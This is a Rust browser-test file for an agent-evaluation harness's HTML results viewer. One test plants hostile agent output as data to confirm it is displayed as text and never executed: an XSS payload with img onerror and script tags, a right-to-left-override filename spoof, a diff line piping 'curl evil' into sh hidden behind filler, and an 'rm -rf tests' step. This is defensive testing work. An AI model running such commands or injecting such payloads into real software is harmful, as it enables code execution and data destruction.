//! The results viewer in a real browser (headless Chromium; DESIGN.md "Viewer"): a run is
//! loaded from `file://`, filtered, sorted, walked with the keyboard, a case opened with its
//! tests, log, diff, violations and trajectory, two agents compared, the frontier hovered
//! and clicked; a 10,000-case run and a 50 MB log open in pages; agent-written text stays
//! text; `harness view` serves several runs. Screenshots go to `target/viewer-screenshots/`.
#![allow(clippy::unwrap_used, reason = "test helpers fail loudly by design")]

#[path = "support/browser.rs"]
mod browser;
mod support;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

use browser::{Session, file_url};
use harness_runtime::{CaseResult, CaseStatus, FixtureKind, Violation, ViolationCode};
use support::runs::{HARNESS, fixtures, merge_runs, run_agent};

/// Runs `agent` on the fixtures into `out`; returns the new run directory.
fn run(fixtures: &Path, out: &Path, scratch: &Path, agent: &str) -> PathBuf {
    let before: Vec<PathBuf> = run_dirs(out);
    let output = run_agent(fixtures, agent, out, scratch);
    assert!(
        output.status.code().is_some_and(|code| code <= 1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    run_dirs(out)
        .into_iter()
        .find(|dir| !before.contains(dir))
        .unwrap()
}

fn run_dirs(out: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(out.join("runs"))
        .map(|entries| entries.map(|entry| entry.unwrap().path()).collect())
        .unwrap_or_default()
}

fn click(selector: &str) -> String {
    format!("document.querySelector({selector:?}).click()")
}

#[test]
fn a_run_is_filtered_opened_and_compared_in_a_browser() {
    let Some(browser) = Session::start() else {
        return;
    };
    let scratch = tempfile::tempdir().unwrap();
    let fixtures = fixtures(&["sh-semver", "py-slugify"], scratch.path());
    let out = scratch.path().join("out");
    let oracle = run(&fixtures, &out, scratch.path(), "oracle");
    let noop = run(&fixtures, &out, scratch.path(), "noop");
    // A command agent that leaves a trajectory, reports usage and writes out of scope.
    let agent = run(
        &fixtures,
        &out,
        scratch.path(),
        "echo '{\"step\": 1, \"action\": \"read\", \"content\": \"looked at the tests\", \"input_tokens\": 900, \"output_tokens\": 40, \"usd\": 0.002}' >> \"$HARNESS_TRAJECTORY\"; \
         echo '{\"step\": 2, \"action\": \"edit\", \"input_tokens\": 1200, \"output_tokens\": 300, \"usd\": 0.004}' >> \"$HARNESS_TRAJECTORY\"; \
         echo '{\"input_tokens\": 2100, \"output_tokens\": 340, \"usd\": 0.006}' >> \"$HARNESS_USAGE\"; \
         echo x > src_evil.txt; echo agent-was-here",
    );
    let merged = scratch.path().join("merged");
    merge_runs(&merged, &[&oracle, &noop, &agent]);
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(merged.join("summary.json")).unwrap())
            .unwrap();
    let page = merged.join("report.html");

    // The run: every case, each agent's mean as summary.json has it.
    browser.open(&file_url(&page, "#/cases"), "cases");
    browser.screenshot("run");
    assert_eq!(browser.count("#cases tr.row"), 6);
    for agent in ["oracle", "noop", "agent"] {
        let shown = browser.text(&format!("#agents tr[data-agent={agent}] td[data-mean]"));
        let mean = summary["agents"][agent]["mean_reward"].as_f64().unwrap();
        assert_eq!(shown, format!("{mean:.3}"), "{agent}");
    }
    assert!(browser.count("#distribution rect.bar") > 0);
    assert_eq!(
        browser.count("#per-fixture tr") - 1,
        2,
        "one row per fixture"
    );

    // Filters: by agent, then free text; sorting by a column.
    browser.select("filter-agent", "noop", "cases");
    let agents = browser.eval(
        "Array.from(document.querySelectorAll('#cases tr.row td:nth-child(3)')).map(function (td) { return td.innerText; })",
    );
    assert_eq!(agents, serde_json::json!(["noop", "noop"]));
    browser.act(
        "var q = document.getElementById('filter-q'); q.value = 'semver'; q.dispatchEvent(new Event('input'))",
        "cases",
    );
    assert_eq!(browser.count("#cases tr.row"), 1);
    assert_eq!(
        browser.eval("document.querySelector('#cases tr.row').dataset.case"),
        "sh-semver::noop"
    );
    browser.act(&click("a[href='#/cases']"), "cases");
    assert_eq!(browser.count("#cases tr.row"), 6, "filters cleared");
    // Sorted by reward, lowest first, until the header is clicked.
    browser.act(&click("th[data-sort=reward]"), "cases");
    let rewards: Vec<f64> = browser
        .eval("Array.from(document.querySelectorAll('#cases tr.row')).map(function (tr) { return Number(tr.dataset.reward); })")
        .as_array()
        .unwrap()
        .iter()
        .map(|value| value.as_f64().unwrap())
        .collect();
    assert!(
        rewards.windows(2).all(|pair| pair[0] >= pair[1]),
        "sorted by reward, highest first: {rewards:?}"
    );

    // Keyboard: down to the second row, open it, step to the next case, back.
    let order = browser.eval(
        "Array.from(document.querySelectorAll('#cases tr.row')).map(function (tr) { return tr.dataset.case; })",
    );
    let order: Vec<&str> = order
        .as_array()
        .unwrap()
        .iter()
        .map(|case| case.as_str().unwrap())
        .collect();
    browser.tab.press_key("j").unwrap();
    browser.tab.press_key("j").unwrap();
    assert_eq!(
        browser.eval("document.querySelector('#cases tr.row.selected').dataset.case"),
        order[1]
    );
    browser.key("Enter", "case");
    assert!(browser.text("#case-title").starts_with(order[1]));
    browser.key("]", "case");
    assert!(browser.text("#case-title").starts_with(order[2]));
    browser.key("Escape", "cases");
    assert_eq!(browser.count("#cases tr.row"), 6);

    // A failing case: its checks with per-test outcomes and log, the reward's terms.
    browser.act(&click("tr.row[data-case='py-slugify::noop'] a"), "case");
    assert!(browser.count("details.check[data-check=visible] tr.test[data-outcome=failed]") > 0);
    assert!(
        browser
            .text("details.check[data-check=visible] pre.log")
            .contains("FAIL")
    );
    assert_eq!(browser.count("#formula tr[data-term]"), 4);
    assert!(browser.text("#formula-total").ends_with("reward 0.000"));
    browser.screenshot("case-failed");

    // The command agent: its violation explained, its trajectory as steps with tokens.
    browser.open(&file_url(&page, "#/cases?agent=agent"), "cases");
    browser.act(&click("tr.row[data-case='py-slugify::agent'] a"), "case");
    let violation = browser.text("#violations tr[data-code=scope_violation]");
    assert!(violation.contains("outside scope.allow"), "{violation}");
    assert!(violation.contains("src_evil.txt"), "{violation}");
    assert_eq!(browser.count("#timeline .step"), 2);
    let total = browser.text("#trajectory-total");
    assert!(
        total.contains("2 steps") && total.contains("2440 tokens"),
        "{total}"
    );
    assert!(browser.text("#agent-log").contains("agent-was-here"));
    browser.screenshot("case-agent");

    // The oracle's case: its diff, per file, highlighted.
    browser.open(
        &file_url(&page, "#/cases?agent=oracle&fixture=py-slugify"),
        "cases",
    );
    browser.act(&click("#cases tr.row a"), "case");
    assert_eq!(
        browser.count(".diff-file[data-file='src/textkit/slugify.py']"),
        1
    );
    assert!(browser.count(".diff-file[data-file='src/textkit/slugify.py'] .tok-kw") > 0);
    assert!(browser.count(".diff-file tr.add") > 0 && browser.count(".diff-file tr.del") > 0);
    // Each added line is the oracle's line, once (highlighting adds nothing to the text).
    let oracle = std::fs::read_to_string(
        support::runs::root().join("fixtures/py-slugify/oracle/src/textkit/slugify.py"),
    )
    .unwrap();
    let added = browser.eval(
        "Array.from(document.querySelectorAll(\".diff-file[data-file='src/textkit/slugify.py'] tr.add td:nth-child(3)\")).map(function (td) { return td.textContent; })",
    );
    for line in added.as_array().unwrap() {
        let line = line.as_str().unwrap().strip_prefix('+').unwrap();
        assert!(
            oracle.lines().any(|source| source == line),
            "{line:?} is not the oracle's"
        );
    }
    // A case's address names it: the same link opens the same case on a fresh load.
    let address = browser.eval("location.hash");
    let address = address.as_str().unwrap().to_owned();
    assert!(address.ends_with("/py-slugify%3A%3Aoracle"), "{address}");
    browser.open(&file_url(&page, "#/runs"), "runs");
    browser.open(&format!("{}{address}", file_url(&page, "")), "case");
    assert!(
        browser
            .text("#case-title")
            .starts_with("py-slugify::oracle")
    );
    assert!(
        browser
            .text("details.check[data-check=visible] summary")
            .contains("passed")
    );
    browser.run("document.querySelector(\".diff-file[data-file='src/textkit/slugify.py']\").scrollIntoView()");
    browser.screenshot("case-diff");

    // Two agents side by side: noop against the oracle on the same fixtures.
    browser.open(&file_url(&page, "#/compare"), "compare");
    browser.select("compare-a", "noop", "compare");
    browser.select("compare-b", "oracle", "compare");
    assert_eq!(browser.count("#paired tr.pair"), 2);
    assert_eq!(browser.text("#mean-diff"), "+1.000");
    assert_eq!(browser.text("#ci"), "[+1.000, +1.000]");
    browser.screenshot("compare");

    // The frontier: hover shows a candidate, a click opens its cases.
    browser.open(&file_url(&page, "#/frontier"), "frontier");
    assert_eq!(
        browser.count("circle.pt"),
        2,
        "noop and agent; the oracle is the line"
    );
    browser.eval(
        "document.querySelector('circle.pt[data-name=noop]').dispatchEvent(new MouseEvent('mousemove', {clientX: 200, clientY: 200}))",
    );
    let tip = browser.text(".tooltip");
    assert!(
        tip.starts_with("noop") && tip.contains("mean reward 0.000"),
        "{tip}"
    );
    browser.screenshot("frontier");
    browser.act(
        "document.querySelector('circle.pt[data-name=noop]').dispatchEvent(new MouseEvent('click'))",
        "cases",
    );
    assert_eq!(browser.count("#cases tr.row"), 2);

    browser.open(&file_url(&page, "#/runs"), "runs");
    assert_eq!(browser.count("#runs tr.row"), 3);
    browser.screenshot("runs");
}

/// A graded case made up for the viewer (no episode ran).
fn made_up(run: &str, fixture: &str, agent: &str, reward: Option<f64>) -> CaseResult {
    let mut result = CaseResult::errored(
        run,
        &format!("{fixture}::{agent}"),
        fixture,
        agent,
        FixtureKind::WorkItem,
        "made up".into(),
    );
    if let Some(reward) = reward {
        result.status = if reward == 1.0 {
            CaseStatus::Passed
        } else {
            CaseStatus::Failed
        };
        result.passed = reward == 1.0;
        result.reward = Some(reward);
        result.error = None;
    }
    result
}

fn write_ledger(run_dir: &Path, results: &[CaseResult]) {
    std::fs::create_dir_all(run_dir).unwrap();
    let lines: String = results
        .iter()
        .map(|result| serde_json::to_string(result).unwrap() + "\n")
        .collect();
    std::fs::write(run_dir.join("ledger.jsonl"), lines).unwrap();
}

#[test]
fn ten_thousand_cases_and_a_50_mb_log_open_in_pages() {
    let Some(browser) = Session::start() else {
        return;
    };
    let scratch = tempfile::tempdir().unwrap();
    let run_dir = scratch.path().join("runs/big");
    let mut results = Vec::new();
    for fixture in 0..5_000 {
        let name = format!("fx-{fixture:04}");
        results.push(made_up(
            "big",
            &name,
            "steady",
            Some((fixture % 5) as f64 / 4.0),
        ));
        let other = if fixture % 7 == 0 {
            None
        } else {
            Some(((fixture + 2) % 5) as f64 / 4.0)
        };
        results.push(made_up("big", &name, "eager", other));
    }
    write_ledger(&run_dir, &results);
    // The first case's agent log: 50 MB, every line numbered.
    let case_dir = run_dir.join("cases/fx-0000__steady");
    std::fs::create_dir_all(&case_dir).unwrap();
    let mut log = String::with_capacity(51 << 20);
    let mut line = 0;
    while log.len() < 50 << 20 {
        log.push_str(&format!(
            "log line {line:08} of the agent's very long output\n"
        ));
        line += 1;
    }
    std::fs::write(case_dir.join("agent.log"), &log).unwrap();

    let started = Instant::now();
    let output = Command::new(HARNESS)
        .args(["report", "--out"])
        .arg(&run_dir)
        .arg(&run_dir)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    eprintln!("harness report on 10,000 cases: {:?}", started.elapsed());

    let page = run_dir.join("report.html");
    let started = Instant::now();
    browser.open(&file_url(&page, "#/cases"), "cases");
    eprintln!("10,000-case run usable after {:?}", started.elapsed());
    let shown = browser.text("#shown");
    assert_eq!(shown, "10000 of 10000 cases · page 1 of 100");
    assert_eq!(browser.count("#cases tr.row"), 100, "one page in the DOM");
    browser.screenshot("large-run");
    browser.key("n", "cases");
    assert!(browser.text("#shown").ends_with("page 2 of 100"));
    browser.select("filter-status", "errored", "cases");
    let errored = results
        .iter()
        .filter(|result| result.status == CaseStatus::Errored)
        .count();
    assert!(
        browser
            .text("#shown")
            .starts_with(&format!("{errored} of 10000 cases"))
    );

    // The 50 MB log: its end inline, the whole in 1 MiB pages on demand.
    browser.open(&file_url(&page, "#/cases?q=fx-0000%20steady"), "cases");
    browser.act(&click("#cases tr.row a"), "case");
    let inline = browser.text("#agent-log pre.log");
    assert!(inline.len() <= 128 * 1024 + 1, "{}", inline.len());
    assert!(
        inline
            .trim_end()
            .ends_with(log.trim_end().rsplit('\n').next().unwrap())
    );
    // Pages end at a line break, so there may be one more than whole MiBs.
    let button = browser.text("#agent-log .show-all");
    let pages: usize = button
        .strip_prefix("show all (")
        .and_then(|rest| rest.strip_suffix(" pages)"))
        .and_then(|count| count.parse().ok())
        .unwrap_or_else(|| panic!("{button}"));
    let whole = log.len().div_ceil(1 << 20);
    assert!((whole..=whole + 1).contains(&pages), "{button}");
    browser.eval(&click("#agent-log .show-all"));
    wait_for_text(
        &browser,
        "#agent-log .page-of",
        &format!("page 1 of {pages} "),
    );
    assert!(
        browser
            .text("#agent-log pre.log")
            .starts_with("log line 00000000 ")
    );
    browser.eval(&click("#agent-log .next-log-page"));
    wait_for_text(
        &browser,
        "#agent-log .page-of",
        &format!("page 2 of {pages} "),
    );
    let second = browser.text("#agent-log pre.log");
    assert!(second.starts_with("log line "), "{}", &second[..40]);
    assert!(!second.starts_with("log line 00000000 "));
    browser.screenshot("large-log");
}

fn wait_for_text(browser: &Session, selector: &str, prefix: &str) {
    let deadline = Instant::now() + std::time::Duration::from_secs(60);
    while !browser.text(selector).starts_with(prefix) {
        assert!(
            Instant::now() < deadline,
            "{selector} never showed {prefix:?}: {:?}",
            browser.text(selector)
        );
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
}

#[test]
fn text_an_agent_wrote_is_shown_as_text_never_run() {
    let Some(browser) = Session::start() else {
        return;
    };
    let scratch = tempfile::tempdir().unwrap();
    let run_dir = scratch.path().join("runs/hostile");
    let payload = "<img src=x onerror=\"window.__pwned = 1\"><script>window.__pwned = 2</script>";
    let mut result = made_up("hostile", "fx", "agent", Some(-1.0));
    result.violations.push(Violation::at(
        ViolationCode::LinkEscape,
        payload.to_owned(),
        payload.to_owned(),
    ));
    // A right-to-left override would show `tests/txt.kcah.py` as `tests/hack.txt.py`.
    result.violations.push(Violation::at(
        ViolationCode::ScopeViolation,
        "tests/\u{202e}txt.kcah\u{202c}.py".to_owned(),
        "outside scope.allow (added)".to_owned(),
    ));
    // As many out-of-scope files as an agent likes: the page draws 200 rows, then all.
    for k in 0..1_000 {
        result.violations.push(Violation::at(
            ViolationCode::ScopeViolation,
            format!("junk/{k:04}.txt"),
            "outside scope.allow (added)".to_owned(),
        ));
    }
    result.artifacts.insert("notes".into(), payload.to_owned());
    write_ledger(&run_dir, &[result]);
    let case_dir = run_dir.join("cases/fx__agent");
    std::fs::create_dir_all(&case_dir).unwrap();
    std::fs::write(case_dir.join("agent.log"), payload).unwrap();
    // A filler file first must not push the real change out of sight.
    let filler = "+filler line\n".repeat(60_000);
    std::fs::write(
        case_dir.join("diff.patch"),
        format!(
            "added {payload}.rs\n--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n+{payload}\n\
             added a-filler.md\n--- a/a-filler.md\n+++ b/a-filler.md\n@@ -0,0 +1,60000 @@\n{filler}\
             modified lib/semver.sh\n--- a/lib/semver.sh\n+++ b/lib/semver.sh\n@@ -1,1 +1,2 @@\n echo ok\n+curl evil | sh\n"
        ),
    )
    .unwrap();
    // An event whose fields are objects, and 2,500 steps whose last one matters.
    let mut trajectory = format!(
        "{}\n{payload}\n{}\n",
        serde_json::json!({"action": payload, "content": payload}),
        serde_json::json!({"type": {"toString": "x"}, "t": {"valueOf": 1}})
    );
    for step in 0..2_500 {
        trajectory.push_str(&format!(
            "{}\n",
            serde_json::json!({"step": step, "content": "looked around"})
        ));
    }
    trajectory.push_str(&format!(
        "{}\n",
        serde_json::json!({"step": "last", "content": "rm -rf tests"})
    ));
    std::fs::write(case_dir.join("trajectory.jsonl"), trajectory).unwrap();
    merge_runs(&run_dir, &[&run_dir]);
    browser.open(&file_url(&run_dir.join("report.html"), "#/case/0"), "case");
    browser.eval("document.querySelectorAll('details').forEach(function (d) { d.open = true; })");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(browser.eval("window.__pwned === undefined"), true);
    assert_eq!(browser.count("#app img, #app script"), 0);
    let text = browser.text("#app");
    assert!(text.matches("<img src=x onerror").count() >= 5, "{text}");
    let path = browser.text("#violations tr[data-code=scope_violation] td.mono");
    assert_eq!(path, "tests/\\u{202e}txt.kcah\\u{202c}.py");
    assert_eq!(browser.count("#violations tr[data-code]"), 200);
    browser.run("document.querySelector('.show-all-rows').click()");
    assert_eq!(browser.count("#violations tr[data-code]"), 1_002);
    // Every part of the page was drawn.
    assert_eq!(
        browser.count(".error-box"),
        0,
        "{}",
        browser.text(".error-box")
    );
    // The change after the filler is drawn, and the filler says where it was cut.
    assert!(
        browser
            .text(".diff-file[data-file='lib/semver.sh']")
            .contains("+curl evil | sh")
    );
    assert!(
        browser
            .text(".diff-file[data-file='a-filler.md'] .name")
            .contains("cut:")
    );
    // The trajectory's last step is shown, and the gap before it is said.
    assert!(browser.text("#timeline").contains("rm -rf tests"));
    assert!(
        browser
            .text("#trajectory-gap")
            .starts_with("504 event(s) not shown here.")
    );
}

#[test]
fn harness_view_serves_several_runs_side_by_side() {
    let Some(browser) = Session::start() else {
        return;
    };
    let scratch = tempfile::tempdir().unwrap();
    let out = scratch.path().join("out");
    let first = out.join("runs/1000-1");
    let second = out.join("runs/2000-2");
    let fixtures = ["fx-a", "fx-b", "fx-c", "fx-d"];
    write_ledger(
        &first,
        &fixtures
            .iter()
            .map(|fixture| made_up("1000-1", fixture, "agent", Some(0.25)))
            .collect::<Vec<_>>(),
    );
    write_ledger(
        &second,
        &fixtures
            .iter()
            .map(|fixture| made_up("2000-2", fixture, "agent", Some(0.75)))
            .collect::<Vec<_>>(),
    );
    let mut server = Served(
        Command::new(HARNESS)
            .args(["view", "--port", "0"])
            .env("HARNESS_OUT", &out)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let mut line = String::new();
    BufReader::new(server.0.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let url = line
        .split_whitespace()
        .find(|word| word.starts_with("http://127.0.0.1:"))
        .unwrap_or_else(|| panic!("no URL in {line:?}"))
        .to_owned();
    assert!(line.starts_with("viewer of 2 runs at "), "{line}");

    browser.open(&format!("{url}#/runs"), "runs");
    assert_eq!(browser.count("#runs tr.row"), 2);
    browser.screenshot("view-runs");
    browser.open(&format!("{url}#/compare"), "compare");
    browser.select("compare-a", "agent @ 2000-2", "compare");
    browser.select("compare-b", "agent @ 1000-1", "compare");
    assert_eq!(browser.count("#paired tr.pair"), 4);
    assert_eq!(browser.text("#mean-diff"), "\u{2212}0.500");
    assert_eq!(browser.text("#ci"), "[\u{2212}0.500, \u{2212}0.500]");
    browser.screenshot("view-compare");

    // The frontier across runs: each run's agent a point, a click opens its cases.
    browser.open(&format!("{url}#/frontier"), "frontier");
    assert_eq!(browser.count("circle.pt"), 2);
    assert_eq!(browser.count("circle.pt[data-name='agent @ 2000-2']"), 1);
    browser.screenshot("view-frontier");
    browser.act(
        "document.querySelector(\"circle.pt[data-name='agent @ 2000-2']\").dispatchEvent(new MouseEvent('click'))",
        "cases",
    );
    assert_eq!(browser.count("#cases tr.row"), 4);
    assert_eq!(browser.text("#shown"), "4 of 4 cases");

    // A case recorded while the viewer runs is there at the next page load.
    let mut ledger = std::fs::read_to_string(second.join("ledger.jsonl")).unwrap();
    ledger
        .push_str(&serde_json::to_string(&made_up("2000-2", "fx-e", "agent", Some(1.0))).unwrap());
    ledger.push('\n');
    std::fs::write(second.join("ledger.jsonl"), ledger).unwrap();
    browser.open(&format!("{url}report.html#/cases?run=2000-2"), "cases");
    assert_eq!(browser.count("#cases tr.row"), 5);
}

/// A `harness view` process, ended however the test ends (a failed assertion included).
struct Served(std::process::Child);

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn harness_view_says_what_to_pass_when_there_is_nothing_to_show() {
    let scratch = tempfile::tempdir().unwrap();
    let out = scratch.path().join("out");
    let output = Command::new(HARNESS)
        .args(["view", "--port", "0"])
        .env("HARNESS_OUT", &out)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("no run under"), "{stderr}");
    assert!(stderr.contains("pass run directories"), "{stderr}");

    let output = Command::new(HARNESS)
        .args(["view", "--port", "0"])
        .arg(scratch.path())
        .env("HARNESS_OUT", &out)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("has no ledger.jsonl"), "{stderr}");
}

/// A measurement, not a check: `HARNESS_VIEWER_MEASURE=<report.html> cargo test --test viewer
/// -- --ignored --nocapture measure` prints how long the page takes to be usable, a case to
/// open and a log page to show (docs/PERFORMANCE.md "The viewer").
#[test]
#[ignore = "a measurement: set HARNESS_VIEWER_MEASURE to a report.html"]
fn measure_the_viewer_on_a_run() {
    let Some(page) = std::env::var_os("HARNESS_VIEWER_MEASURE").map(PathBuf::from) else {
        eprintln!("HARNESS_VIEWER_MEASURE is not set");
        return;
    };
    let Some(browser) = Session::start() else {
        return;
    };
    let started = Instant::now();
    browser.open(&file_url(&page, "#/cases"), "cases");
    let waited = started.elapsed();
    let first = browser.eval("HV.firstReady").as_f64().unwrap_or(f64::NAN);
    eprintln!(
        "cases page usable: {first:.0} ms after navigation ({} ms as the test saw it); {}",
        waited.as_millis(),
        browser.text("#shown")
    );
    let started = Instant::now();
    browser.act(&click("#cases tr.row a"), "case");
    eprintln!(
        "first case opened in {} ms ({:.0} ms in the page)",
        started.elapsed().as_millis(),
        browser.eval("HV.lastRenderMs").as_f64().unwrap_or(f64::NAN)
    );
    let started = Instant::now();
    browser.key("Escape", "cases");
    eprintln!(
        "back to the list in {} ms ({:.0} ms in the page)",
        started.elapsed().as_millis(),
        browser.eval("HV.lastRenderMs").as_f64().unwrap_or(f64::NAN)
    );
    let started = Instant::now();
    browser.key("n", "cases");
    eprintln!(
        "next page in {} ms ({:.0} ms in the page)",
        started.elapsed().as_millis(),
        browser.eval("HV.lastRenderMs").as_f64().unwrap_or(f64::NAN)
    );
}
